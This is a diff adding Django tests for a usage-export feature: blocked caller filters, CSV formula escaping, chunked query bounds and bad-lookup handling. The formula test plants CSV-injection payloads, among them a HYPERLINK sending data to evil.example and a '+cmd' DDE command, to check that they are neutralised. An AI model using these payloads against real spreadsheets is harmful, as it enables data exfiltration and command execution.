@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from datetime import UTC, datetime
 from decimal import Decimal
 
@@ -244,3 +245,117 @@ def test_a_signed_out_visitor_cannot_export(world: World) -> None:
     response = Client().get(EXPORT)
     assert response.status_code == 302
     assert "/login/" in response["Location"]
+
+
+def test_provider_owner_cannot_filter_callers_rows_by_user_or_key(
+    world: World, rows: dict[str, UsageRecord]
+) -> None:
+    """No lookup on who called: it would split globex's calls by user and key."""
+    charlie, key = rows["served"].user_id, rows["served"].api_key_id
+    alice = _client(world.alice)
+    splits = [
+        {"user": charlie},
+        {"user_id": charlie},
+        {"user__in": f"{charlie},{world.alice.pk}"},
+        {"user__gt": 0},
+        {"user__id__lte": 10**9},
+        {"user__isnull": "True"},
+        {"api_key": key},
+        {"api_key_id": key},
+        {"api_key__isnull": "False"},
+        {"api_key__id__gte": 0},
+    ]
+    for params in splits:
+        assert alice.get(LIST, params).status_code == 400, params
+        assert alice.get(EXPORT, params).status_code == 400, params
+    # The list's own filters still work.
+    assert _ids(alice.get(LIST, {"caller": "others", "source": "api"})) == {
+        rows["served"].pk
+    }
+    # Sorting by any column names no caller either.
+    for column in range(1, 8):
+        page = alice.get(LIST, {"o": str(column)})
+        assert page.status_code == 200
+        assert "charlie" not in page.content.decode()
+    # A superuser sees every row in full, so may filter by user.
+    root = UserFactory(username="root", is_staff=True, is_superuser=True)
+    assert _ids(_client(root).get(LIST, {"user": charlie})) == {
+        rows["served"].pk,
+        rows["private"].pk,
+    }
+
+
+def test_export_neutralises_formula_cells(
+    world: World, rows: dict[str, UsageRecord]
+) -> None:
+    world.globex.name = '=HYPERLINK("https://evil.example/?d="&C2,"Globex")'
+    world.globex.save()
+    ApiKey.objects.filter(name="alice-laptop").update(name="+cmd|' /C calc'!A0")
+    UsageRecord.objects.filter(pk=rows["own"].pk).update(model_name="@SUM(1+1)")
+    UsageRecord.objects.filter(pk=rows["own_error"].pk).update(
+        model_name="-2+3", error_type="\tx"
+    )
+    body = b"".join(_client(world.alice).get(EXPORT).streaming_content).decode()  # type: ignore[arg-type]
+    table = {r["latency_ms"]: r for r in csv.DictReader(io.StringIO(body))}
+    served, own, failed = table["90"], table["812"], table["30000"]
+    assert served["organization"] == (
+        '\'=HYPERLINK("https://evil.example/?d="&C2,"Globex")'
+    )
+    assert own["api_key"] == "'+cmd|' /C calc'!A0"
+    assert own["model"] == "'@SUM(1+1)"
+    assert (failed["model"], failed["error_type"]) == ("'-2+3", "'\tx")
+    # Numbers and plain names are untouched.
+    assert (own["user"], own["input_tokens"], own["cost_usd"]) == (
+        "alice",
+        "1200",
+        "0.0042000000",
+    )
+
+
+def test_export_chunks_are_bounded_by_the_last_key(
+    world: World, rows: dict[str, UsageRecord], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Each chunk after the first has ``created_at <= last`` AND-ed in: an index bound.
+
+    The (created_at, pk) comparison alone is an OR, which PostgreSQL applies as
+    a filter only: every chunk walked every row already sent. Rows sharing one
+    timestamp still come out once each.
+    """
+    tie = datetime(2026, 11, 22, 8, 0, tzinfo=UTC)
+    provider = rows["own"].provider
+    same = {
+        _record(
+            organization=world.acme, provider=provider,
+            provider_organization=world.acme, created_at=tie, latency_ms=7,
+        ).pk
+        for _ in range(5)
+    }  # fmt: skip
+    monkeypatch.setattr(usage_export, "EXPORT_CHUNK", 2)
+    response = _client(world.alice).get(EXPORT)
+    with CaptureQueriesContext(connection) as queries:
+        body = b"".join(response.streaming_content).decode()  # type: ignore[arg-type]
+    table = list(csv.DictReader(io.StringIO(body)))
+    assert len(table) == 8 and sum(r["latency_ms"] == "7" for r in table) == len(same)
+    chunks = [q["sql"] for q in queries]
+    assert len(chunks) == 5  # four full chunks, then an empty one
+    bound = re.compile(r'^\(?"gateway_usagerecord"\."created_at" <= ')
+    for sql in chunks[1:]:
+        where = sql.split(" WHERE ", 1)[1]
+        conjuncts = [part.strip() for part in where.split(" AND ")]
+        assert any(bound.match(part) for part in conjuncts), sql
+
+
+def test_export_with_bad_lookup_is_not_a_500(
+    world: World, rows: dict[str, UsageRecord]
+) -> None:
+    alice = _client(world.alice)
+    for params in (
+        {"created_at__year": "abc"},
+        {"latency_ms": "abc"},
+        {"created_at__gte": "not-a-date"},
+    ):
+        listed = alice.get(LIST, params)
+        exported = alice.get(EXPORT, params)
+        # The export answers as the list does: back to the list, flagged.
+        assert listed.status_code == exported.status_code == 302, params
+        assert exported["Location"] == listed["Location"] == f"{LIST}?e=1"
